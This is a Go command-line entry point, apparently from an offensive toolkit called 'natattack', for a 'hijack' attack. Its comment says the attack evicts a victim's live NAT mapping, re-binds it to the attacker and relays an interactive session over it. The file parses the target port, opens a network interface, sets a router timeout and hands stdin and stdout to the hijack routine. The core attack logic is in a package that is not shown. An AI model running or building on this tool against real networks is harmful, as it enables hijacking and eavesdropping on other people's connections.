// Command hijack evicts a victim's live NAT mapping, re-binds it to
// the attacker, and relays an interactive session over it (spec.md
// §4.6).
package main

import (
	"fmt"
	"os"
	"strconv"
	"time"

	"github.com/pterm/pterm"
	"github.com/spf13/cobra"

	"github.com/hollowpoint-sec/natattack/cmd/internal/rootflags"
	"github.com/hollowpoint-sec/natattack/internal/attack/hijack"
	"github.com/hollowpoint-sec/natattack/internal/iface"
)

func main() {
	var routerTimeoutMS int

	cmd := &cobra.Command{
		Use:   "hijack PORT",
		Short: "Evict a NAT mapping and relay a hijacked connection",
		Args:  cobra.ExactArgs(1),
	}
	flags := rootflags.Register(cmd)
	cmd.Flags().IntVar(&routerTimeoutMS, "router-timeout", 1000, "milliseconds to wait for the NAT mapping to age out")
	cmd.RunE = func(cmd *cobra.Command, args []string) error {
		return run(flags, routerTimeoutMS, args)
	}

	if err := cmd.Execute(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(flags *rootflags.Common, routerTimeoutMS int, args []string) error {
	port, err := strconv.ParseUint(args[0], 10, 16)
	if err != nil {
		return fmt.Errorf("invalid PORT %q: %w", args[0], err)
	}

	topo, err := flags.Topology()
	if err != nil {
		return err
	}
	logger := flags.Logger()

	dev, err := iface.NewInterface(topo.Interface, logger)
	if err != nil {
		return err
	}
	defer dev.Close()

	opts := hijack.Options{
		Port:          uint16(port),
		Timeout:       flags.Timeout(),
		RouterTimeout: time.Duration(routerTimeoutMS) * time.Millisecond,
	}
	evicted, err := hijack.Run(dev, flags.Policy(), *topo, opts, os.Stdin, os.Stdout, logger)
	if err != nil {
		return err
	}
	if evicted {
		pterm.Success.Println("relay session ended")
	}
	return nil
}
